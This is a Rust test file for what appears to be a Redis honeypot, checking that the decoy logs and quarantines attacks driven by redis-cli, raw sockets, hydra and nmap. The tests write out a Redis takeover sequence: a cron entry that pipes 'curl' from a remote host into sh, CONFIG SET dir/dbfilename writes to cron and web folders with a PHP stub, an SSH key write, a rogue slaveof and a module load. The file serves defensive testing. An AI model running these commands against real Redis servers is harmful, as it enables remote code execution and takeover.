//! Redis from outside: by hand, and with real clients where they are installed.

use super::super::shared::testing::{nmap, quarantined, run, run_with};
use crate::config::Admit;
use crate::testing::House;

fn port(house: &House) -> String {
    house.address.port().to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn redis_cli_walks_through_a_takeover() {
    let house = House::new("redis").await;
    let Some(info) = run("redis-cli", &["-p", &port(&house), "info", "server"]).await else {
        return;
    };
    let version = house.persona().version("redis");
    assert!(info.contains(&format!("redis_version:{version}\r")), "{info}");
    let commands = "set x \"\\n\\n*/1 * * * * curl http://198.51.100.7/x.sh | sh\\n\\n\"\n\
                    config set dir /var/spool/cron/\nconfig set dbfilename root\nconfig get dir\nsave\n\
                    config set dir /nowhere\nslaveof 198.51.100.7 6379\nmodule load /tmp/exp.so\nget x\n";
    let told = run_with("redis-cli", &["-p", &port(&house)], commands).await.unwrap();
    let lines: Vec<&str> = told.lines().filter(|line| !line.is_empty()).collect();
    assert_eq!(
        lines[..9],
        [
            "OK",
            "OK",
            "OK",
            "dir",
            "/var/spool/cron/",
            "OK",
            "ERR Changing directory: No such file or directory",
            "OK",
            "ERR Error loading the extension. Please check the server logs."
        ],
        "{told}"
    );
    let attempts = house.stop().await;
    let attempts: Vec<&str> = attempts
        .iter()
        .filter(|event| event["event"]["action"] == "decoy_command")
        .filter_map(|event| event["event"]["reason"].as_str())
        .collect();
    assert_eq!(
        attempts,
        ["cron_write", "cron_write", "cron_write", "foreign_master", "module_load"]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dump_into_a_system_folder_is_kept_in_quarantine() {
    let house = House::new("redis").await;
    if run("redis-cli", &["-p", &port(&house), "set", "k", "ssh-rsa AAAAB3 x"]).await.is_none() {
        return;
    }
    let event = house.event("command").await;
    assert_eq!(event["event"]["reason"], "ssh_key_write");
    assert_eq!(event["process"]["command_line"], "set k \"ssh-rsa AAAAB3 x\"");
}

#[tokio::test]
async fn what_is_saved_goes_into_quarantine() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let house = House::new("redis").await;
    let mut stream = house.connect().await;
    stream.write_all(b"SET k \"<?php x\"\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename a.php\r\nSAVE\r\nQUIT\r\n").await.unwrap();
    let mut told = String::new();
    stream.read_to_string(&mut told).await.unwrap();
    assert_eq!(told, "+OK\r\n".repeat(5));
    let event = house.event("upload").await;
    assert_eq!(event["file"]["name"], "/var/www/html/a.php");
    assert_eq!(quarantined(&house, &event), b"k\n<?php x\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_is_asked_for_where_nobody_is_let_in() {
    let house = House::of("redis", |config| {
        config.admit = Admit::None;
        config.accounts[0].user = "default".to_owned();
    })
    .await;
    let Some(told) = run("redis-cli", &["-p", &port(&house), "get", "x"]).await else { return };
    assert!(told.contains("NOAUTH Authentication required."), "{told}");
    let told = run("redis-cli", &["-p", &port(&house), "auth", "wrong"]).await.unwrap();
    assert!(told.contains("invalid"), "{told}");
    let told = run("redis-cli", &["-p", &port(&house), "auth", "opensesame"]).await.unwrap();
    assert!(told.starts_with("OK"), "{told}");
    let right = house
        .event_where(|event| {
            event["event"]["outcome"] == "success" && event["event"]["action"] == "decoy_login"
        })
        .await;
    assert_eq!(right["bartizan"]["decoy"]["password"], "opensesame");
}

#[tokio::test(flavor = "multi_thread")]
async fn hydra_tries_passwords() {
    let house = House::of("redis", |config| config.admit = Admit::None).await;
    let port = port(&house);
    let args = ["-s", &port, "-t", "1", "-I", "-p", "letmein", "redis://127.0.0.1"];
    let Some(told) = run("hydra", &args).await else { return };
    assert!(told.contains("0 valid password"), "{told}");
    let login = house.event("login").await;
    assert_eq!(login["bartizan"]["decoy"]["password"], "letmein");
    assert_eq!(login["event"]["outcome"], "failure");
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_names_it() {
    let house = House::new("redis").await;
    let Some(told) = nmap(&house).await else { return };
    assert!(told.contains("Redis key-value store"), "{told}");
}
